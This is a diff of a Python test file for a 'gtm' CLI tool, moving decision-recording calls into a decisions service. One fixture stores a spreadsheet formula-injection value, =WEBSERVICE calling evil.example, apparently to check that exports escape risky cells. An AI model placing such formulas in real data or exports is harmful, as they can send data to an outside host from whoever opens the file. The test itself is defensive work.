@@ -27,6 +27,7 @@ from fixtures_import import (
 
 from gtm.cli import main
 from gtm.export.tables import TRIGGERS
+from gtm.services import decisions
 from gtm.storage.repository import Store
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -194,7 +195,7 @@ def _portfolio_with_risky_text(db: str, capsys: pytest.CaptureFixture[str], tmp_
                                  for i in range(len(RISKY))]))
     assert run(capsys, "import", "accounts", str(accounts), "--database", db)[0] == 0
     assert run(capsys, "import", "opportunities", str(opps), "--database", db)[0] == 0
-    Store(db).record_decision(LEADER, "R0", "market_bu", "=WEBSERVICE(\"http://evil.example\")")
+    decisions.record_decision(Store(db), LEADER, "R0", "market_bu", "=WEBSERVICE(\"http://evil.example\")")
 
 
 def _starts_unescaped(cell: str) -> bool:
@@ -252,7 +253,7 @@ def test_demo_command_loads_then_reset_replaces_idempotently(db_url: str, capsys
     code, out, _ = run(capsys, "demo", "--database", db_url)
     assert code == 0 and "already holds a portfolio" in out and "--reset" in out
     store = Store(db_url)
-    store.record_decision(LEADER, "ACC-0001", "lead_unit", "Pilot.")
+    decisions.record_decision(store, LEADER, "ACC-0001", "lead_unit", "Pilot.")
     for _ in range(2):
         code, out, _ = run(capsys, "demo", "--reset", "--database", db_url)
         assert code == 0 and "accounts: 400 added, 0 updated" in out
